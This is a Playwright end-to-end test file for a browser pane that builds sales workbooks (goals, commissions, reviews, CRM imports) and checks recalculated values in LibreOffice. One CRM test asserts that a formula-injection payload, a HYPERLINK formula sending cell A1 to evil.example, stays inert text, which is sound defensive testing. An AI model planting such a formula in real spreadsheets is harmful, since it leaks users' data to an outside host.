/**
 * End to end in a plain browser (download mode): the built pane over https in headless Chromium;
 * each generator's form filled with the keyboard and the mouse; the .xlsx received as a download,
 * actuals typed into its input cells as a user would, and its values recalculated by LibreOffice
 * and compared with hand-worked figures. Cell positions come from the generators' layouts; the
 * expected values never come from the code under test.
 */
import fs from "fs";
import path from "path";
import ExcelJS from "exceljs";
import type { BrowserContext, Page } from "playwright-core";
import { generateGoalWorkbook, goalLayout } from "../../src/generators/goals";
import { buildPlanModel, generateIncentiveWorkbook } from "../../src/generators/incentives";
import { buildRepReviewWorkbook, defaultCompetencies, pairMentors } from "../../src/generators/reviews";
import { importCrm, looksLikeHeader, sampleExportCsv } from "../../src/generators/crm";
import { readTable } from "../../src/hosts/xlsx/read-table";
import { validateGoalInput } from "../../src/schemas/goals";
import { parseIncentivePlan } from "../../src/schemas/incentive-plan";
import { parseReviewConfig } from "../../src/schemas/review";
import { parseRosterCsv } from "../../src/schemas/roster";
import { cellAddress } from "../../src/workbook/a1";
import { isFormula, WorkbookSpec } from "../../src/workbook/spec";
import {
  RecalculatedWorkbook,
  describeWithLibreOffice,
  expectClose,
  recalculate,
} from "../oracle/libreoffice";
import { describeWithChromium, paneContext } from "./support/chromium";
import { REPS, ROSTER_TSV } from "./support/fixtures";
import { openPane, pageErrors } from "./support/pane-page";
import { withPaneBrowser } from "./support/suite";
import {
  chooseByKeyboard,
  openTab,
  pasteRoster,
  pressButton,
  previewAndDownload,
  typeInto,
} from "./support/user";
import { PANE_GOAL_METRICS, PANE_INCENTIVE_PLAN, paneTeamFeedbackLog } from "../support/pane-plans";
import { sofficeTimeLimits } from "../support/tool-timeout";

// LibreOffice runs here: jest's time limits outlast soffice's own (tool-timeout.ts).
sofficeTimeLimits();

const ROSTER = (() => {
  const r = parseRosterCsv(ROSTER_TSV);
  if (!r.ok) throw new Error("fixture roster");
  return r.value;
})();

/** Writes numbers into cells of a downloaded workbook (a user typing actuals), returns the new bytes. */
async function typeIntoCells(data: Buffer, sheet: string, values: Record<string, number>): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(data as unknown as ArrayBuffer);
  const ws = wb.getWorksheet(sheet);
  if (!ws) throw new Error(`no sheet ${sheet} in ${wb.worksheets.map((w) => w.name).join(", ")}`);
  for (const [address, value] of Object.entries(values)) ws.getCell(address).value = value;
  return Buffer.from(await wb.xlsx.writeBuffer());
}

async function recalculated(name: string, data: Buffer): Promise<RecalculatedWorkbook> {
  return (await recalculate([{ name, data }])).get(name)!;
}

/** Every formula cell of `spec`, as LibreOffice computed it, must be a value, not an error. */
function expectNoErrors(book: RecalculatedWorkbook, spec: WorkbookSpec): number {
  let formulas = 0;
  const errors: string[] = [];
  for (const sheet of spec.sheets) {
    for (const block of sheet.blocks) {
      const m = /^([A-Z]+)(\d+)$/.exec(block.start)!;
      const col0 = m[1].split("").reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) - 1;
      const row0 = Number(m[2]) - 1;
      block.rows.forEach((row, r) =>
        row.forEach((cell, c) => {
          if (cell === null || cell === undefined || !isFormula(cell)) return;
          formulas++;
          const address = cellAddress(row0 + r, col0 + c);
          const value = book.get(sheet.name, address);
          if (value && typeof value === "object")
            errors.push(`${sheet.name}!${address} ${cell.formula} = ${value.error}`);
        }),
      );
    }
  }
  expect(errors).toEqual([]);
  return formulas;
}

const ARTIFACTS = path.resolve(__dirname, "../../test-results/downloads");

function keep(name: string, data: Buffer): void {
  fs.mkdirSync(ARTIFACTS, { recursive: true });
  fs.writeFileSync(path.join(ARTIFACTS, name), data);
}

const DEALS = 6000;

/**
 * Ticks a 10 ms timer on the page's main thread from now on: the longest wait between two ticks is
 * the longest the pane could not answer a click or paint.
 */
function watchMainThread(page: Page): Promise<void> {
  return page.evaluate(() => {
    const watch = { last: performance.now(), longestGap: 0 };
    (window as unknown as { __mainThread: typeof watch }).__mainThread = watch;
    const tick = () => {
      const now = performance.now();
      watch.longestGap = Math.max(watch.longestGap, now - watch.last);
      watch.last = now;
      setTimeout(tick, 10);
    };
    setTimeout(tick, 10);
  });
}

function longestMainThreadGap(page: Page): Promise<number> {
  return page.evaluate(
    () => (window as unknown as { __mainThread: { longestGap: number } }).__mainThread.longestGap,
  );
}

/** The pane's record of each .xlsx build: which path built it, in how many ms. */
function xlsxBuilds(page: Page): Promise<{ path: string; ms: number }[]> {
  return page.evaluate(() =>
    performance
      .getEntriesByType("measure")
      .filter((m) => m.name.startsWith("sales-kit xlsx build: "))
      .map((m) => ({ path: m.name.slice("sales-kit xlsx build: ".length), ms: m.duration })),
  );
}

/** The Web Workers the page starts from now on: the script's path, and when each ends. */
function watchWorkers(page: Page): { path: string; closed: Promise<void> }[] {
  const seen: { path: string; closed: Promise<void> }[] = [];
  page.on("worker", (worker) =>
    seen.push({
      path: new URL(worker.url()).pathname,
      closed: new Promise((resolve) => worker.once("close", () => resolve())),
    }),
  );
  return seen;
}

describeWithChromium("pane in a browser: fill, download, recalculate", () => {
  const pane = withPaneBrowser();
  let context: BrowserContext;
  let page: Page;

  beforeEach(async () => {
    context = await paneContext(pane.browser);
    page = await openPane(context, pane.server);
  }, 60000);

  afterEach(async () => {
    expect(pageErrors(page)).toEqual([]);
    await context?.close();
  });

  describeWithLibreOffice("generated workbooks", () => {
    it("goal sheet: targets split by month, attainment of typed actuals (Chinese sheets)", async () => {
      await openTab(page, "Goal sheet");
      await pasteRoster(page, ROSTER_TSV);
      await typeInto(page, "Period", "2027-Q1");
      await typeInto(page, "As-of date", "2027-03-31");
      await chooseByKeyboard(page, "Sheet language", "中文");
      await typeInto(page, "Revenue target per rep", "1,200,000");
      const file = await previewAndDownload(page);
      expect(file.name).toBe("goals-2027-Q1.xlsx");
      keep(file.name, file.data);

      // Where the generator puts each rep's line: its layout for the same plan.
      const plan = validateGoalInput(ROSTER, {
        locale: "zh-CN",
        period: "2027-Q1",
        asOf: "2027-03-31",
        metrics: PANE_GOAL_METRICS,
      });
      if (!plan.ok) throw new Error(JSON.stringify(plan.issues));
      const layout = goalLayout(plan.value, "zh-CN").goals;
      const sheet = goalLayout(plan.value, "zh-CN").names.goals;
      const at = (rep: number, metric: number, col: number) => cellAddress(layout.row(rep, metric) - 1, col);
      // Li Wei sells 500,000 + 400,000 + 300,000 = 1,200,000 (100% of 1,200,000);
      // Wang Fang 100,000 a month = 300,000 (25%).
      const typed: Record<string, number> = {};
      [500000, 400000, 300000].forEach((v, j) => (typed[at(0, 0, layout.cols.monthActual + j)] = v));
      [100000, 100000, 100000].forEach((v, j) => (typed[at(1, 0, layout.cols.monthActual + j)] = v));
      const book = await recalculated("goals", await typeIntoCells(file.data, sheet, typed));

      expect(book.sheetNames()).toContain(sheet);
      REPS.forEach((_name, i) => {
        // Every rep started before 2027 (no ramp): the full target, split evenly over three months.
        expectClose(book.get(sheet, at(i, 0, layout.cols.target)), 1200000);
        for (let j = 0; j < 3; j++)
          expectClose(book.get(sheet, at(i, 0, layout.cols.monthTarget + j)), 400000);
        expectClose(book.get(sheet, at(i, 1, layout.cols.target)), 15);
      });
      expectClose(book.get(sheet, at(0, 0, layout.cols.actual)), 1200000);
      expectClose(book.get(sheet, at(0, 0, layout.cols.attainment)), 1);
      expectClose(book.get(sheet, at(1, 0, layout.cols.attainment)), 0.25);
      const spec = generateGoalWorkbook(plan.value, { locale: "zh-CN" });
      expect(expectNoErrors(book, spec)).toBeGreaterThan(100);
    }, 180000);

    it("incentive table: marginal commission tiers on typed bookings", async () => {
      await openTab(page, "Incentive table");
      await pasteRoster(page, ROSTER_TSV);
      await typeInto(page, "First month", "2027-01");
      await typeInto(page, "Months", "3");
      const file = await previewAndDownload(page);
      expect(file.name).toBe("incentives-2027-01.xlsx");
      keep(file.name, file.data);

      // The same plan the form stands for (its defaults), for the layout of the Calculation sheet.
      const plan = parseIncentivePlan(PANE_INCENTIVE_PLAN);
      if (!plan.ok) throw new Error(JSON.stringify(plan.issues));
      const model = buildPlanModel(plan.value, ROSTER);
      if (!model.ok) throw new Error(JSON.stringify(model.issues));
      const { spec, layout } = generateIncentiveWorkbook(model.value, { locale: "en-US" });
      const calc = layout.calc;
      const m = calc.col.measures[0];
      const cell = (rep: number, period: number, col: number) => cellAddress(calc.row(rep, period), col);
      // Li Wei books 500,000 in January and 200,000 in February; Wang Fang 300,000 in January.
      const book = await recalculated(
        "incentives",
        await typeIntoCells(file.data, layout.sheets.calculation, {
          [cell(0, 0, m.direct)]: 500000,
          [cell(0, 1, m.direct)]: 200000,
          [cell(1, 0, m.direct)]: 300000,
        }),
      );
      const sheet = layout.sheets.calculation;
      // Marginal tiers: 300,000 x 3% + 150,000 x 5% + 50,000 x 8% = 9,000 + 7,500 + 4,000 = 20,500.
      expectClose(book.get(sheet, cell(0, 0, m.payout)), 20500);
      // 200,000 x 3% = 6,000.
      expectClose(book.get(sheet, cell(0, 1, m.payout)), 6000);
      // Exactly the quota: 300,000 x 3% = 9,000 (the 5% tier starts above it).
      expectClose(book.get(sheet, cell(1, 0, m.payout)), 9000);
      expectClose(book.get(sheet, cell(1, 0, m.attainment)), 1);
      expectClose(book.get(sheet, cell(2, 0, m.payout)), 0);
      expect(expectNoErrors(book, spec)).toBeGreaterThan(50);
    }, 180000);

    it("self-review and development plan: one rep's four sheets compute without errors", async () => {
      await openTab(page, "Self-review & plan", "Self-review & development plan");
      await pasteRoster(page, ROSTER_TSV);
      await chooseByKeyboard(page, "Rep", "Wang Fang · East");
      await typeInto(page, "Review period", "2027-H1");
      await typeInto(page, "As-of date", "2027-06-30");
      const file = await previewAndDownload(page);
      keep(file.name, file.data);
      const config = parseReviewConfig({ locale: "en-US", period: "2027-H1", asOf: "2027-06-30" });
      if (!config.ok) throw new Error(JSON.stringify(config.issues));
      const spec = buildRepReviewWorkbook({
        locale: "en-US",
        rep: ROSTER[1],
        config: config.value,
        competencies: defaultCompetencies(),
        kpis: [],
        mentors: pairMentors(ROSTER, config.value.period.end, config.value.mentoring),
      });
      const book = await recalculated("review", file.data);
      expect(book.sheetNames()).toEqual(spec.sheets.map((s) => s.name));
      expect(expectNoErrors(book, spec)).toBeGreaterThan(10);
    }, 180000);

    it("feedback log: the team's log computes without errors", async () => {
      await openTab(page, "Feedback log");
      await page.getByRole("checkbox", { name: "A team's log (rather than one rep's)" }).check();
      await page.getByRole("combobox", { name: "Team" }).click();
      await page.keyboard.type("East");
      // Typing opens the list of roster names; Escape closes it, Tab moves on.
      await page.keyboard.press("Escape");
      await page.keyboard.press("Tab");
      await typeInto(page, "Empty rows", "12");
      await typeInto(page, "As-of date", "2027-03-31");
      const file = await previewAndDownload(page);
      keep(file.name, file.data);
      const sheet = paneTeamFeedbackLog();
      const book = await recalculated("feedback", file.data);
      expect(book.sheetNames()).toEqual([sheet.name]);
      expectNoErrors(book, { sheets: [sheet] });
    }, 180000);

    it("CRM import: a Zoho export's KPIs for Q1 2027, imported text kept as text", async () => {
      const fixtures = path.resolve(__dirname, "../fixtures/crm");
      await openTab(page, "CRM import");
      await page.getByLabel("Load an export file").setInputFiles(path.join(fixtures, "zoho-deals.csv"));
      await page.getByTestId("crm-status").waitFor({ timeout: 20000 });
      expect(await page.getByTestId("crm-status").textContent()).toContain("Recognised: Zoho CRM Deals.");
      await page.getByLabel("Load a CSV or .xlsx file").setInputFiles(path.join(fixtures, "roster.csv"));
      await page.getByTestId("roster-status").waitFor();
      await typeInto(page, "KPI periods", "2027-Q1");
      await typeInto(page, "As-of date for follow-ups", "2027-03-31");
      const file = await previewAndDownload(page);
      keep(file.name, file.data);

      const roster = parseRosterCsv(fs.readFileSync(path.join(fixtures, "roster.csv"), "utf8"));
      if (!roster.ok) throw new Error("roster fixture");
      const read = await readTable(fs.readFileSync(path.join(fixtures, "zoho-deals.csv")), {
        fileName: "zoho-deals.csv",
        isHeader: looksLikeHeader,
      });
      if (!read.ok) throw new Error("zoho fixture");
      const result = importCrm(read.table, roster.value, {
        locale: "en-US",
        asOf: 46477,
        periods: [{ label: "2027-Q1", start: 46388, end: 46477 }],
        file: "zoho-deals.csv",
      });
      if (!result.ok) throw new Error(JSON.stringify(result.issues));
      const kpi = result.workbook.kpi;
      const row = kpi.rows.find(
        (r) => r.kind === "rep" && r.period === "2027-Q1" && r.name === "Emily Chen",
      )!;
      const at = (column: keyof typeof kpi.columns) => cellAddress(row.row - 1, kpi.columns[column]!);
      const book = await recalculated("crm", file.data);
      // Emily Chen in 2027-Q1 (zoho-deals.csv): won zcrm_1001 $12,000 (01-15) and zcrm_1002 8,500
      // (02-03) = 20,500; zcrm_1008 (amount "TBD") and zcrm_1009 (no close date) cannot count; lost
      // zcrm_1011 (01-31). Win rate 2 / (2 + 1).
      expectClose(book.get(kpi.sheet, at("wonRevenue")), 20500);
      expectClose(book.get(kpi.sheet, at("dealsWon")), 2);
      expectClose(book.get(kpi.sheet, at("dealsLost")), 1);
      expectClose(book.get(kpi.sheet, at("winRate")), 2 / 3);
      expectNoErrors(book, result.workbook.spec);

      // The deal named "=HYPERLINK(...)" arrived as text: no cell of the file is that formula.
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(file.data as unknown as ArrayBuffer);
      const texts: string[] = [];
      wb.eachSheet((ws) =>
        ws.eachRow((r) =>
          r.eachCell((c) => {
            if (c.type === ExcelJS.ValueType.Formula) expect(c.formula).not.toContain("evil.example");
            else if (typeof c.value === "string") texts.push(c.value);
          }),
        ),
      );
      expect(texts).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Open deal")');
    }, 180000);

    it("shows the schema's message beside a field and at the button, focuses the field, writes nothing", async () => {
      await openTab(page, "Goal sheet");
      await pasteRoster(page, ROSTER_TSV);
      await typeInto(page, "Period", "2027-Q5");
      const message = page.getByText("write 2027-Q1, 2027-H1, 2027-03 or 2027");
      await message.first().waitFor();
      let downloads = 0;
      page.on("download", () => downloads++);
      await pressButton(page, "Download .xlsx");
      await page.getByTestId("form-problems").waitFor();
      expect(await page.getByTestId("form-problems").textContent()).toContain("Period: ");
      expect(await page.evaluate(() => (document.activeElement as HTMLElement | null)?.id)).toBe(
        await page.getByRole("textbox", { name: "Period" }).getAttribute("id"),
      );
      expect(await page.getByTestId("preview").count()).toBe(0);
      await page.waitForTimeout(500);
      expect(downloads).toBe(0);
      // Fixed: the list at the button goes.
      await typeInto(page, "Period", "2027-Q1");
      await page.getByTestId("form-problems").waitFor({ state: "detached" });
    }, 60000);
  });

  describe("the .xlsx built in a Web Worker", () => {
    const fixtures = path.resolve(__dirname, "../fixtures/crm");

    it("a CRM import of 6,000 deals: built in the worker while the pane's main thread stays free", async () => {
      const workers = watchWorkers(page);
      const roster = parseRosterCsv(fs.readFileSync(path.join(fixtures, "roster.csv"), "utf8"));
      if (!roster.ok) throw new Error("roster fixture");
      const csv = sampleExportCsv(
        roster.value.map((r) => r.name),
        { rows: DEALS, asOf: 46477 },
      );
      await openTab(page, "CRM import");
      await page
        .getByLabel("Load an export file")
        .setInputFiles({ name: "deals.csv", mimeType: "text/csv", buffer: Buffer.from(csv) });
      await page.getByTestId("crm-status").waitFor({ timeout: 20000 });
      await page.getByLabel("Load a CSV or .xlsx file").setInputFiles(path.join(fixtures, "roster.csv"));
      await page.getByTestId("roster-status").waitFor();
      await typeInto(page, "KPI periods", "2027-Q1");
      await typeInto(page, "As-of date for follow-ups", "2027-03-31");
      await page.getByTestId("preview").waitFor({ timeout: 20000 });

      await watchMainThread(page);
      const [download] = await Promise.all([
        page.waitForEvent("download", { timeout: 60000 }),
        page.getByRole("button", { name: "Download .xlsx" }).click(),
      ]);
      const frozen = await longestMainThreadGap(page);
      await page.getByTestId("write-success").waitFor();
      const builds = await xlsxBuilds(page);

      expect(builds.map((b) => b.path)).toEqual(["worker"]);
      expect(workers.map((w) => w.path)).toEqual(["/xlsx-worker.js"]);
      // Ended once it had answered: one worker per build.
      await workers[0].closed;
      // The build lasted long enough to freeze the pane had it run on the main thread (which then
      // waits as long as the build, less ExcelJS's few awaits); the main thread's longest wait for
      // its timer, the spec's copy to the worker included, stays a small part of it.
      expect(builds[0].ms).toBeGreaterThan(200);
      expect(frozen).toBeLessThan(builds[0].ms / 3);

      // The file holds every deal: the data sheet's header and one row per exported deal.
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(fs.readFileSync(await download.path()) as unknown as ArrayBuffer);
      expect(wb.getWorksheet("CRM data")?.rowCount).toBe(DEALS + 1);
    }, 120000);

    it("a worker whose script fails to load: the file is built on the main thread all the same", async () => {
      let refused = 0;
      await page.route("**/xlsx-worker.js", (route) => {
        refused++;
        return route.abort();
      });
      await openTab(page, "Goal sheet");
      await pasteRoster(page, ROSTER_TSV);
      const file = await previewAndDownload(page);
      expect(refused).toBe(1);
      expect((await xlsxBuilds(page)).map((b) => b.path)).toEqual(["main thread"]);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(file.data as unknown as ArrayBuffer);
      expect(wb.worksheets.length).toBeGreaterThan(0);
      // afterEach: the failed load is no uncaught error of the page.
    }, 60000);
  });
});
